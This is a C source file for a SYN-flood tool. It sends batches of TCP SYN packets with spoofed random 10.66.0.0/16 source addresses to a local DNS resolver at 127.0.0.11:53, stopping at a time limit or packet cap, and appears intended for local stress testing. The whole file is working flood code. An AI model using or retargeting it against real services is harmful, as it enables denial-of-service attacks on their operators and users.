/* Begins TCP connections to 127.0.0.11:53 from addresses by chance of 10.66.0.0/16, and goes on with none: a flood of SYN.
 *
 * syn SECONDS MOST: no more than MOST in all. Prints how many were sent. It needs CAP_NET_RAW, and a route to those addresses
 * that leads nowhere, else the kernel has no way for its answers and forgets the beginnings at once. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

enum { BATCH = 64 };

struct packet {
    struct iphdr ip;
    struct tcphdr tcp;
};

static double now(void) {
    struct timespec time;
    clock_gettime(CLOCK_MONOTONIC, &time);
    return time.tv_sec + time.tv_nsec / 1e9;
}

/* RFC 1071, over the pseudo header and the segment. */
static uint16_t checksum(const struct packet *packet) {
    const uint16_t *words = (const uint16_t *)&packet->tcp, *addresses = (const uint16_t *)&packet->ip.saddr;
    uint32_t sum = htons(IPPROTO_TCP) + htons(sizeof packet->tcp);
    for (size_t i = 0; i < sizeof packet->tcp / 2; i++) sum += words[i];
    for (size_t i = 0; i < 4; i++) sum += addresses[i];
    sum = (sum & 0xFFFF) + (sum >> 16);
    return ~(sum + (sum >> 16));
}

int main(int argc, char **argv) {
    if (argc != 3) return 2;
    static struct packet packets[BATCH];
    struct sockaddr_in server = {.sin_family = AF_INET, .sin_port = htons(53), .sin_addr = {htonl(0x7F00000B)}};
    struct mmsghdr headers[BATCH] = {0};
    struct iovec vectors[BATCH];
    for (int i = 0; i < BATCH; i++) {
        vectors[i] = (struct iovec){&packets[i], sizeof packets[i]};
        headers[i].msg_hdr = (struct msghdr){
            .msg_name = &server, .msg_namelen = sizeof server, .msg_iov = &vectors[i], .msg_iovlen = 1};
    }
    /* The header of IP is in what is sent (raw(7) IPPROTO_RAW); its checksum and length are the kernel's to write. */
    int descriptor = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    if (descriptor < 0) return perror("raw socket"), 1;
    uint64_t random = 88172645463325252u, sent = 0, most = strtoull(argv[2], NULL, 10);
    double end = now() + atof(argv[1]);
    while (now() < end && sent + BATCH <= most) {
        for (int i = 0; i < BATCH; i++) {
            random ^= random << 13, random ^= random >> 7, random ^= random << 17;
            struct packet *packet = &packets[i];
            packet->ip = (struct iphdr){
                .version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_TCP, .saddr = htonl(0x0A420000 | (random & 0xFFFF)),
                .daddr = server.sin_addr.s_addr};
            packet->tcp = (struct tcphdr){
                .source = htons(1024 + (random >> 16) % 64000), .dest = server.sin_port, .seq = random >> 32, .doff = 5, .syn = 1,
                .window = htons(65535)};
            packet->tcp.check = checksum(packet);
        }
        int done = sendmmsg(descriptor, headers, BATCH, 0);
        if (done < 0) return perror("sendmmsg"), 1;
        sent += done;
    }
    printf("%llu\n", (unsigned long long)sent);
    return 0;
}
